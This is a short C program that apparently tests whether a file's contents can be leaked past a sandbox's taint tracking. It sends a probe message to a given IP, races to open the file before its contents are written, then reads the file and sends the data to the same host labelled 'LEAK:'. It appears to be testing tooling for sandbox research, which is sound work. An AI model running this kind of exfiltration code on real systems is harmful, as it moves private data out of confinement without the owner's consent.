// raceopen IP NAME : sends PRE, spins on open(NAME) (kernel-decided) until it succeeds,
// then waits (pread at 0, up to 10 s) for content written after the open, then sends.
#define _GNU_SOURCE
#include <fcntl.h>
#include <errno.h>
#include "send.c"
int main(int argc,char**argv){ setvbuf(stdout,0,_IONBF,0);
  const char*ip=argv[1],*path=argv[2];
  printf("PRE send: %d\n", send_buf(ip,"PRE-TAINT-CHANNEL-OK",20));
  int fd=-1; long tries=0;
  while((fd=open(path,O_RDONLY))<0 && tries<2000000000L){ if(errno!=ENOENT){printf("open: %s\n",strerror(errno));return 1;} tries++; }
  char buf[256]; ssize_t n=0;
  for(int i=0;i<1000;i++){ n=pread(fd,buf,sizeof buf-1,0); if(n>0) break; usleep(10000);} buf[n>0?n:0]=0;
  printf("open after %ld tries; READ %zd bytes: %.40s\n",tries,n,buf);
  char m[300]; int l=snprintf(m,sizeof m,"LEAK:%s",buf); printf("POST send: %d\n",send_buf(ip,m,l)); return 0; }
